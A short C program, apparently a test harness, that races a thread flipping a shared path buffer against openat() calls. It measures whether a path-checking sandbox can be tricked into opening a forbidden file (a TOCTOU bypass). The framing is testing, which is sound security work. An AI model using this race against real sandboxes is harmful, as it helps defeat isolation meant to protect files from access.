/* TOCTOU race: openat() on a path buffer that a second thread flips between
 * ORIG and EVIL (same length) in a tight loop.  The sandbox under test
 * refuses EVIL and rewrites ORIG to TARGET.  Each file's first byte names
 * it (O, E, T).  Prints "target=N evil=N orig=N failed=N".
 * usage: inject_race ORIG EVIL ITERATIONS */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>

static char path[4096];
static const char *orig, *evil;
static atomic_int stop;

static void *flipper(void *arg) {
    (void)arg;
    size_t n = strlen(orig);
    while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
        memcpy(path, evil, n);
        memcpy(path, orig, n);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 4 || strlen(argv[1]) != strlen(argv[2])) return 2;
    orig = argv[1];
    evil = argv[2];
    int iters = atoi(argv[3]);
    strcpy(path, orig);
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    int counts[4] = {0};  /* target evil orig failed */
    for (int i = 0; i < iters; i++) {
        long fd = syscall(SYS_openat, AT_FDCWD, path, O_RDONLY);
        if (fd < 0) { counts[3]++; continue; }
        char c = 0;
        if (read((int)fd, &c, 1) != 1) c = '?';
        close((int)fd);
        counts[c == 'T' ? 0 : c == 'E' ? 1 : c == 'O' ? 2 : 3]++;
    }
    atomic_store(&stop, 1);
    pthread_join(t, NULL);
    printf("target=%d evil=%d orig=%d failed=%d\n", counts[0], counts[1], counts[2], counts[3]);
    return 0;
}
